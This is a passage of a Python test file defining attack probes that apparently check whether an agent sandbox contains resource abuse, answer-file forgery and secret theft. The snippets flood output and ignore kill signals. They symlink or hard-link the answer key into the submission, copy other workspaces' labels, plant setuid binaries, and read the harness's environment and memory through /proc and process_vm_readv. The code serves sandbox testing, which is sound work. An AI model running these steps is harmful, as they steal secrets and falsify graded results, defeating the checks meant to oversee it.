            report(survived=True)
        except OSError as exc:
            report(held_mb=held, complete=False, error=repr(exc))
    """, check=check_hoard, limits={"memory_mb": 512}, timeout=30),
    Attack("res_stdout_flood", "resources", """
        chunk = "x" * (1 << 20)
        written = 0
        try:
            for i in range(300):
                sys.stdout.write(chunk)
                sys.stdout.flush()
                written += 1
            error = None
        except OSError as exc:
            error = repr(exc)
        print("REDTEAM-RESULT " + json.dumps({"written_mb": written, "complete": written == 300, "error": error}),
              file=sys.stderr, flush=True)
    """, check=check_flood, limits={"file_size_mb": 64}, timeout=60),
    Attack("res_timeout_ignores_signals", "resources", """
        import signal, subprocess
        for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(s, signal.SIG_IGN)
        stubborn = "import signal, time\\nfor s in (1, 2, 15): signal.signal(s, signal.SIG_IGN)\\nwhile True: time.sleep(0.05)"
        subprocess.Popen([sys.executable, "-c", stubborn, V["tag"] + "-stubborn"], start_new_session=True)
        report(started=True)
        while True:
            pass
    """, check=check_timeout, timeout=3),
]

FORGERY = [
    Attack("forge_symlink_submission", "forgery", """
        attempt("symlink submission", lambda: os.symlink(V["answers"], "submission.csv"))
        attempt("symlink input", lambda: os.symlink(V["task_dir"], "input/task"))
    """),
    Attack("forge_fifo_submission", "forgery", """
        attempt("mkfifo", lambda: os.mkfifo("submission.csv"))
        attempt("mkfifo nested", lambda: os.mkfifo("input/sample_submission.csv"))
    """),
    Attack("forge_socket_submission", "forgery", """
        import socket
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        attempt("bind", lambda: s.bind("submission.csv"))
    """),
    Attack("forge_hardlink_answers", "forgery", """
        attempt("hard link", lambda: os.link(V["answers"], "submission.csv"))
    """, check=check_hardlink),
    Attack("forge_deep_tree", "forgery", """
        import time
        os.symlink(V["answers"], "submission.csv")
        for i in range(1100):  # deeper than Python's recursion limit: os.walk over it raises RecursionError
            os.mkdir("d")
            os.chdir("d")
        os.symlink(V["answers"], "submission.csv")
        os.mkfifo("fifo")
        os.chdir(V["ws"])
        report(depth=1100)
        time.sleep(2.5)  # the harness's disk watch walks the workspace meanwhile
    """),
    Attack("forge_setuid_plant", "forgery", """
        import shutil
        shutil.copy("/usr/bin/id", "id-suid")
        os.chmod("id-suid", 0o6755)
        shutil.copy(sys.executable, "python-suid")
        os.chmod("python-suid", 0o4755)
        report(mode=oct(os.stat("id-suid").st_mode))
    """),
    Attack("forge_sibling_labels", "forgery", """
        data = steal(V["sibling_labels"])
        if data:
            open("submission.csv", "wb").write(data)
        report(forged=bool(data))
    """, check=flag("forged", "wrote the sibling workspace's labels as the submission")),
    Attack("forge_task_labels", "forgery", """
        import csv
        data = steal(os.path.join(V["task_dir"], "train.csv"))
        labels = {}
        if data:
            rows = list(csv.reader(data.decode().splitlines()))
            labels = {r[0]: r[-1] for r in rows[1:]}
        ids = [line.split(",")[0] for line in open("input/test.csv").read().splitlines()[1:]]
        with open("submission.csv", "w") as out:
            out.write("id,target\\n" + "".join("%s,%s\\n" % (i, labels.get(i, "a")) for i in ids))
        report(forged=sum(i in labels for i in ids))
    """, check=flag("forged", "read the validation rows' labels from the task folder")),
]

SECRETS = [
    Attack("secret_own_environment", "secrets", """
        env = dict(os.environ)
        print("ENV", env)
        steal("/proc/self/environ")
        report(keys=sorted(env))
    """, check=check_env),
    Attack("secret_parent_chain_environ", "secrets", """
        pid, chain = os.getppid(), []
        while pid > 0 and len(chain) < 10 and V["harness_pid"] not in chain:  # not above the harness
            chain.append(pid)
            for name in ("environ", "cmdline"):
                steal("/proc/%d/%s" % (pid, name))
            try:
                status = open("/proc/%d/status" % pid).read()
                pid = int(status.split("PPid:")[1].split()[0])
            except (OSError, IndexError, ValueError):
                break
        steal("/proc/%d/environ" % V["harness_pid"])
        report(chain=chain)
    """),
    Attack("secret_harness_mem", "secrets", """
        try:
            with open("/proc/%d/mem" % V["harness_pid"], "rb") as handle:
                handle.seek(V["secret_addr"])
                data = handle.read(V["secret_len"])
            print("MEM", data.decode("latin-1"))
            report(read=len(data))
        except (OSError, ValueError, OverflowError) as exc:
            report(read=0, error=repr(exc))
    """),
    Attack("secret_process_vm_readv", "secrets", """
        import ctypes
        class iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        libc = ctypes.CDLL(None, use_errno=True)
        libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p,
                                          ctypes.c_ulong, ctypes.c_ulong]
        libc.process_vm_readv.restype = ctypes.c_ssize_t
        n = V["secret_len"]
        buf = ctypes.create_string_buffer(n)
        local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), n), iovec(V["secret_addr"], n)
        got = libc.process_vm_readv(V["harness_pid"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got > 0:
            print("VM", buf.raw[:got].decode("latin-1"))
        report(read=got, errno=ctypes.get_errno())
    """),
    Attack("secret_proc_scan", "secrets", """
        hits = 0
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            for name in ("environ", "cmdline"):
                try:
                    with open("/proc/%s/%s" % (pid, name), "rb") as handle:
                        data = handle.read()
                except OSError:
                    continue
                if b"SECRET-" in data:
                    hits += 1
                    print("FOUND", pid, name, data.decode("latin-1").replace("\\0", " "))
        report(hits=hits)
    """),
]

ATTACKS: list[Attack] = [*NETWORK, *READS, *WRITES, *PROCESSES, *RESOURCES, *FORGERY, *SECRETS]
CATEGORIES = ("network", "reads", "writes", "processes", "resources", "forgery", "secrets")
assert len({a.name for a in ATTACKS}) == len(ATTACKS), "attack names must be unique"
